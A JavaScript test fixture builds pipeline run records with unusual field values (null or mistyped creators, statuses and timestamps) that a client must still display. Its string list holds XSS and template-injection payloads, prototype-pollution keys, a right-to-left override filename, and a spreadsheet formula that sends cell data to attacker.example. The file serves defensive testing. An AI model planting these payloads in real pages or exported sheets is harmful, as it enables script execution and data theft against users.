// A pipeline in which every run has one unusual value. All of them are valid rows that a client
// must show. Rows that it must reject are in malformed-rows.js.

const MINUTE_MS = 60_000;
const DAY_MS = 86_400_000;

const MARKUP = [
  '<img src=x onerror="alert(1)">',
  '"><script>alert(document.domain)</script>',
  "javascript:alert('run')//",
  '{{constructor.constructor("alert(1)")()}}',
];
const FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1)', '+1+1', '-2+3', '@SUM(A1:A9)'];
const OBJECT_KEYS = ['__proto__', 'constructor', 'toString'];
const RIGHT_TO_LEFT = 'نجح التشغيل';
const OVERRIDE = '\u202Egnp.exe\u202C'; // reads "exe.png" where the override is honored
const LONG = `${'很长的状态 '.repeat(400)}end`;
const UNBROKEN = 'W'.repeat(2_000);

/** @typedef {import('./run-state.js').FieldOverrides} FieldOverrides */
/** @typedef {[description: string, fields: FieldOverrides | ((start: number) => FieldOverrides)]} UnusualRun */

/**
 * @param {number} startedAt
 * @returns {UnusualRun[]}
 */
function unusualRuns(startedAt) {
  return [
    ['a usual run, for comparison', {}],
    ['a null creator', { creatorAccountId: null }],
    ['an empty creator', { creatorAccountId: '' }],
    ['a creator as a number', { creatorAccountId: 1222222222 }],
    ['no creator field', { creatorAccountId: undefined }],
    ['started through the API', { triggerMode: 4, creatorAccountId: '' }],
    ...[0, 99, -1, 2_147_483_647, null].map(triggerRun),
    ['no trigger field', { triggerMode: undefined }],
    ['a trigger as a string', { triggerMode: '3' }],
    ['a fractional trigger', { triggerMode: 1.5 }],
    ...['CANCELED', 'CANCEL', 'SUCCES', 'success', 'SKIPPED', '', ' ', 'A\u0000B', 'a\nb\tc'].map(
      statusRun,
    ),
    [
      'the sample of the API documentation',
      { status: '状态 FAIL 运行失败 SUCCESS 运行成功 RUNNING 运行中' },
    ],
    ['a null status', { status: null }],
    ['no status field', { status: undefined }],
    ['a numeric status', { status: 7 }],
    ['an unknown status without an end', { status: 'QUEUED', endTime: null }],
    ...[...MARKUP, ...FORMULAS, ...OBJECT_KEYS, RIGHT_TO_LEFT, OVERRIDE, LONG, UNBROKEN].flatMap(
      (text) => [statusRun(text), creatorRun(text)],
    ),
    ['running, with end 0', { status: 'RUNNING', endTime: 0 }],
    [
      'running for three days',
      { status: 'RUNNING', startTime: startedAt - 3 * DAY_MS, endTime: null },
    ],
    ['running with an end', { status: 'RUNNING' }],
    [
      'running, started in the future',
      { status: 'RUNNING', startTime: startedAt + DAY_MS, endTime: null },
    ],
    ['waiting', { status: 'WAITING', endTime: null }],
    ['ended, with end 0', { endTime: 0 }],
    ['ended, with a null end', { endTime: null }],
    ['ended, without an end field', { endTime: undefined }],
    ['ended before its start', (start) => ({ endTime: start - 1 })],
    ['ended at its start', (start) => ({ endTime: start })],
    ['took 400 days', (start) => ({ startTime: start - 400 * DAY_MS })],
    ['a null start', { startTime: null }],
    ['no start field', { startTime: undefined }],
    ['a start as a string', (start) => ({ startTime: String(start) })],
    ['times in seconds', { startTime: 1_586_863_220, endTime: 1_586_863_280 }],
    ['a negative start', { startTime: -1 }],
    ['an end after the latest date', { endTime: 8.64e15 + 1 }],
    ['an end that is not a number', { endTime: 'soon' }],
    ['a run of another pipeline', { pipelineId: '4711' }],
    ['no pipeline field', { pipelineId: undefined }],
  ];
}

/**
 * @param {string} text
 * @returns {UnusualRun}
 */
function statusRun(text) {
  return [`status ${shorten(text)}`, { status: text }];
}

/**
 * @param {string} text
 * @returns {UnusualRun}
 */
function creatorRun(text) {
  return [`creator ${shorten(text)}`, { creatorAccountId: text }];
}

/**
 * @param {number | null} mode
 * @returns {UnusualRun}
 */
function triggerRun(mode) {
  return [`trigger ${mode}`, { triggerMode: mode }];
}

/** @param {string} text */
function shorten(text) {
  return JSON.stringify(text.length > 40 ? `${text.slice(0, 40)}…` : text);
}

/**
 * @param {import('./pipelines.js').Pipeline} pipeline
 * @param {number} startedAt
 * @returns {import('./history.js').RunRecord[]}
 */
export function unusualRecords(pipeline, startedAt) {
  const runs = unusualRuns(startedAt);
  return runs.map(([description, fields], i) => {
    const startTime = startedAt - (runs.length - i) * 11 * MINUTE_MS;
    return {
      startTime,
      waitMs: 0,
      durationMs: 5 * MINUTE_MS,
      outcome: 'SUCCESS',
      triggerMode: 1,
      creatorAccountId: pipeline.team[i % pipeline.team.length].accountId,
      fields: typeof fields === 'function' ? fields(startTime) : fields,
      description,
    };
  });
}
